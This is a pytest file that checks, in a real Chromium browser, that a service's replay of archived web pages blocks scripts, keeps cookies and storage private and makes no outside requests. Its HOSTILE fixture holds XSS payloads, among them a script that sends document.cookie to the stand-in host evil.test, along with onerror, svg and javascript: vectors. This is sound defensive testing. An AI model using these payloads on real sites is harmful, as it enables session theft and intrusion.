"""What a real Chromium makes of archived pages: they look as they did, and nothing gets out.

The names that archived pages link to lead to a server on loopback that counts its visitors;
all others lead nowhere.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any, TypeVar

import pytest

from feedsvc.capture.exchange import Exchange
from feedsvc.model import Snapshot
from tests.origin import Origin
from tests.replay.build import exchange, warc

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Frame, Page, Request

    from tests.browsing import Chromium
    from tests.web.conftest import Library, Served

T = TypeVar("T")
HOST = "https://news.example.test"
STORY = f"{HOST}/story"


@dataclass
class Window:
    """A browser window, every address it was about to ask for, and those the policy stopped."""

    page: Page
    served: Served
    asked: list[str] = field(default_factory=list)
    stopped: set[str] = field(default_factory=set)

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.served.port}"

    def open(self, path: str) -> None:
        self.page.goto(f"{self.base}{path}")
        self.page.wait_for_load_state("networkidle")

    @property
    def archived(self) -> Frame:
        """The frame with the archived page."""
        return self.page.frames[1]

    def outside(self) -> list[str]:
        """Return the addresses elsewhere that were asked for."""
        here = (f"{self.base}/", "data:", "about:")
        return [url for url in self.asked if not url.startswith(here) and url not in self.stopped]

    def failed(self, request: Request) -> None:
        if request.failure == "csp":
            self.stopped.add(request.url)


class Windows:
    """Runs what tests do in windows of a browser."""

    def __init__(self, chromium: Chromium) -> None:
        self._chromium = chromium

    def use(self, served: Served, act: Callable[[Window], T]) -> T:
        """Open a fresh window, act in it, close it."""

        def acted(browser: Browser) -> T:
            context = browser.new_context(viewport={"width": 1000, "height": 800})
            try:
                window = Window(context.new_page(), served)
                context.on("request", lambda request: window.asked.append(request.url))
                context.on("requestfailed", window.failed)
                return act(window)
            finally:
                context.close()

        return self._chromium.use(acted)


@pytest.fixture
def live(live_web: Origin) -> Origin:
    """The whole live web, which nobody has been at yet."""
    live_web.connections = 0
    return live_web


@pytest.fixture
def windows(chromium: Chromium) -> Windows:
    return Windows(chromium)


def png(width: int, height: int) -> bytes:
    """Return a red picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        checksum = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)

    rows = (b"\0" + b"\xff\0\0" * width) * height
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        chunk(kind, data)
        for kind, data in ((b"IHDR", head), (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    )


@pytest.fixture
def take(library: Library) -> Callable[..., str]:
    """Store a page with its requisites; return the snapshot's path."""

    def taken(page: str, *requisites: Exchange) -> str:
        content, _ = warc(exchange(STORY, page), requisites=requisites)
        snapshot: Snapshot = library.snapshot(
            library.article(), content, url=STORY, final_url=STORY
        )
        return f"/snapshots/{snapshot.id}/"

    return taken


def evaluated(frame: Frame, *expressions: str) -> list[Any]:
    return [frame.evaluate(one) for one in expressions]


def width(selector: str) -> str:
    return f"document.querySelector('{selector}').naturalWidth"


def test_style_pictures_and_frames_come_from_the_archive(
    take: Callable[..., str], web: Served, windows: Windows, live: Origin
) -> None:
    page = """<!doctype html><link rel=stylesheet href=/site.css><h1>Story</h1>
        <img id=plain src=a.png><img id=set srcset="a.png 1x, big.png 2x">
        <img id=lazy src="data:image/gif;base64,R0" data-src=b.png>
        <img id=gone src=http://other.test/live.png>
        <iframe src=/inner></iframe>
        <iframe id=doc srcdoc="<img id=deep src=b.png>"></iframe>"""
    path = take(
        page,
        exchange(
            f"{HOST}/site.css",
            '@import "/more.css"; @import "/site.css"; h1 { color: rgb(1, 2, 3) }',
            "text/css",
        ),
        exchange(f"{HOST}/more.css", "h1 { background: url(/a.png) }", "text/css"),
        exchange(f"{HOST}/a.png", png(17, 5), "image/png"),
        exchange(f"{HOST}/b.png", png(23, 5), "image/png"),
        exchange(f"{HOST}/inner", "<p>inside</p><img id=in src=/a.png>"),
    )

    def look(window: Window) -> None:
        window.open(path)
        frame = window.archived
        assert evaluated(frame, width("#plain"), width("#set"), width("#lazy"), width("#gone")) == [
            *(17, 17, 23, 0),
        ]
        style = "getComputedStyle(document.querySelector('h1'))"
        color, background = evaluated(frame, f"{style}.color", f"{style}.backgroundImage")
        assert color == "rgb(1, 2, 3)"
        assert f"{path}mp_/{HOST}/a.png" in background
        inner, given = frame.child_frames
        assert evaluated(inner, width("#in"), "document.body.innerText.trim()") == [17, "inside"]
        assert evaluated(given, width("#deep")) == [23]
        assert window.outside() == []

    windows.use(web, look)
    assert live.connections == 0


HOSTILE = """<!doctype html><html manifest=http://evil.test/app><head><title>Tame</title>
<meta http-equiv=refresh content="0; url=http://evil.test/refresh">
<meta http-equiv=Content-Security-Policy content="default-src *; script-src * 'unsafe-inline'">
<base href="http://evil.test/base/" target=_top>
<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=http://evil.test>
<link rel=prefetch href=http://evil.test/prefetch><link rel=prerender href=http://evil.test/p>
<link rel=preload as=image href=http://evil.test/preload.png>
<link rel=stylesheet href=http://evil.test/style.css><link rel=icon href=http://evil.test/i.ico>
<style>@import "http://evil.test/import.css"; @font-face { font-family: X; src: u\\72l(//evil.test/f) }
body { background: u\\72l(http://evil.test/escaped.png); font-family: X } /* <img src=//evil.test> */</style>
<script>
document.title = 'Wild ' + document.cookie; try { document.title += localStorage.getItem('secret') } catch (e) {}
new Image().src = 'http://evil.test/beacon?' + document.cookie; fetch('/');
navigator.serviceWorker.register('/sw.js'); parent.postMessage('out', '*'); window.open('http://evil.test');
</script></head>
<body onload="document.title='Wild'" background=http://evil.test/background.png>
<svg onload="document.title='Wild'"><script>document.title = 'Wild'</script>
<image href=http://evil.test/svg.png /><use href="http://evil.test/use.svg#a"/>
<a id=svg xlink:href="http://evil.test/click"><set attributeName=href to="javascript:document.title='Wild'" />
<text y=20>svg link</text></a></svg>
<svg><title><img src=http://evil.test/title.png onerror="document.title='Wild'"></title></svg>
<math><style><img src=x onerror="document.title='Wild'"></style></math>
<img src=x onerror="document.title='Wild'"><video src=http://evil.test/v.mp4 autoplay poster=http://evil.test/p.png></video>
<iframe src="javascript:parent.document.title='Wild'"></iframe><iframe srcdoc="<script>top.document.title='Wild'</script><img src=http://evil.test/srcdoc.png>"></iframe>
<iframe src=http://evil.test/frame></iframe><object data=http://evil.test/o.swf></object>
<embed src=http://evil.test/e.swf><object data=http://evil.test/o.svg></object><applet code=http://evil.test/a></applet>
<a id=top href=http://evil.test/top target=_top>top</a> <a id=blank href=http://evil.test/blank target=_blank ping=http://evil.test/ping>blank</a>
<a id=js href="javascript:document.title='Wild'">js</a>
<form id=form action=http://evil.test/form method=post><input name=a autofocus onfocus="document.title='Wild'"><button id=send>send</button></form>
<p style="background:url(http://evil.test/inline.png)">end</p>
</body></html>"""


@pytest.mark.parametrize("framed", [True, False], ids=["in-its-frame", "opened-alone"])
def test_a_hostile_page_runs_nothing_reads_nothing_and_reaches_nobody(
    take: Callable[..., str], web: Served, windows: Windows, live: Origin, framed: bool
) -> None:
    path = take(HOSTILE)

    def look(window: Window) -> None:
        window.page.context.add_cookies(
            [{"name": "session", "value": "SECRET", "url": window.base}]
        )
        window.open("/")
        window.page.evaluate("localStorage.setItem('secret', 'SECRET')")
        window.page.evaluate("document.cookie = 'other=SECRET'")
        window.asked.clear()
        window.open(path if framed else f"{path}mp_/{STORY}")
        frame = window.archived if framed else window.page.main_frame
        assert frame.evaluate("document.title") == "Tame"
        cookies = "(() => { try { return document.cookie } catch (error) { return error.name } })()"
        storage = (
            "(() => { try { return localStorage.secret } catch (error) { return error.name } })()"
        )
        origin = "self.origin"
        assert evaluated(frame, cookies, storage, origin) == [
            "SecurityError",
            "SecurityError",
            "null",
        ]
        for link in ("#js", "#send", "#blank"):
            frame.locator(link).click(timeout=3000)
            window.page.wait_for_load_state("networkidle")
            assert len(window.page.context.pages) == 1
        frame.locator("h1").wait_for()
        assert frame.locator("h1").inner_text() == "Not captured"
        assert window.page.url.startswith(window.base)
        assert window.outside() == []

    windows.use(web, look)
    assert live.connections == 0


REACH = """async ours => {
    const found = {};
    const attempt = async (name, act) => { try { found[name] = await act() } catch { found[name] = 'no' } };
    for (const url of [ours, `${ours}feeds/all.atom`, location.href]) {
        await attempt(`fetch ${url}`, async () => (await fetch(url)).text());
        await attempt(`xhr ${url}`, () => { const x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); return x.responseText });
    }
    await attempt('above', () => top.location.href + parent.document.title);
    await attempt('databases', () => indexedDB.open('x') && 'yes');
    await attempt('caches', async () => (await caches.keys()).join());
    await attempt('worker', () => navigator.serviceWorker.register('/x.js'));
    await attempt('referrer', () => document.referrer || 'no');
    return Object.entries(found).filter(([_, told]) => told !== 'no');
}"""


def test_a_script_that_ran_all_the_same_would_read_nothing_of_ours(
    take: Callable[..., str], web: Served, windows: Windows
) -> None:
    path = take("<h1>Story</h1>")

    def look(window: Window) -> None:
        window.open(path)
        assert window.archived.evaluate(REACH, f"{window.base}/") == []
        assert window.page.evaluate(REACH, f"{window.base}/") != []

    windows.use(web, look)


def test_a_page_that_was_not_rewritten_is_saved_and_not_opened(
    take: Callable[..., str], web: Served, windows: Windows, live: Origin
) -> None:
    path = take(HOSTILE)

    def look(window: Window) -> None:
        window.open(path)
        with window.page.expect_download() as download:
            window.page.get_by_text("byte for byte").click()
        assert Path(download.value.path()).read_text() == HOSTILE
        assert window.outside() == []

    windows.use(web, look)
    assert live.connections == 0


def test_nothing_else_of_the_site_can_be_loaded_into_an_archived_page(
    take: Callable[..., str], library: Library, web: Served, windows: Windows
) -> None:
    content, _ = warc(exchange(f"{HOST}/x.png", png(9, 9), "image/png"))
    other = library.snapshot(library.article("Other"), content, url=STORY, final_url=STORY)
    path = take(
        "<img id=own src=a.png>"
        f"<img id=icon src=/favicon.svg><img id=other src='/snapshots/{other.id}/mp_/{HOST}/x.png'>",
        exchange(f"{HOST}/a.png", png(17, 5), "image/png"),
    )

    def look(window: Window) -> None:
        window.open(path)
        # As if the rewriting had been talked out of doing its work.
        window.archived.evaluate(
            """([icon, other]) => { document.querySelector('#icon').src = icon;
                document.querySelector('#other').src = other }""",
            [f"{window.base}/favicon.svg", f"{window.base}/snapshots/{other.id}/mp_/{HOST}/x.png"],
        )
        window.page.wait_for_load_state("networkidle")
        assert evaluated(window.archived, width("#own"), width("#icon"), width("#other")) == [
            17,
            0,
            0,
        ]

    windows.use(web, look)


def test_a_dead_link_leads_to_a_page_that_says_so(
    take: Callable[..., str], web: Served, windows: Windows, live: Origin
) -> None:
    path = take(f"<a id=dead href=http://other.test/dead>dead</a> <a id=live href={STORY}>here</a>")

    def look(window: Window) -> None:
        window.open(path)
        window.archived.locator("#live").click()
        window.page.wait_for_load_state("networkidle")
        assert window.archived.locator("#dead").inner_text() == "dead"
        window.archived.locator("#dead").click()
        window.archived.locator("h1").wait_for()
        assert window.archived.locator("h1").inner_text() == "Not captured"
        assert "http://other.test/dead" in window.archived.locator("main").inner_text()
        assert window.page.locator("iframe").count() == 1
        assert window.outside() == []

    windows.use(web, look)
    assert live.connections == 0


def test_the_frame_fits_a_telephone(
    take: Callable[..., str], web: Served, windows: Windows
) -> None:
    path = take("<p>story</p>")

    def look(window: Window) -> None:
        window.page.set_viewport_size({"width": 360, "height": 700})
        window.open(path)
        assert window.page.evaluate("document.documentElement.scrollWidth") <= 360
        box = window.page.locator("iframe").bounding_box()
        assert box is not None
        assert box["width"] > 300

    windows.use(web, look)


def test_a_drawing_opened_alone_runs_nothing(
    take: Callable[..., str], web: Served, windows: Windows, live: Origin
) -> None:
    drawing = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="document.title=1">'
        "<title>Tame</title><script>document.querySelector('title').textContent='Wild'</script>"
        '<image href="http://evil.test/x.png"/><rect width="9" height="9"/></svg>'
    )
    path = take("<p>", exchange(f"{HOST}/d.svg", drawing, "image/svg+xml"))

    def look(window: Window) -> None:
        window.open(f"{path}mp_/{HOST}/d.svg")
        assert window.page.evaluate("document.title") == "Tame"
        assert window.page.evaluate("document.documentElement.localName") == "svg"

    windows.use(web, look)
    assert live.connections == 0
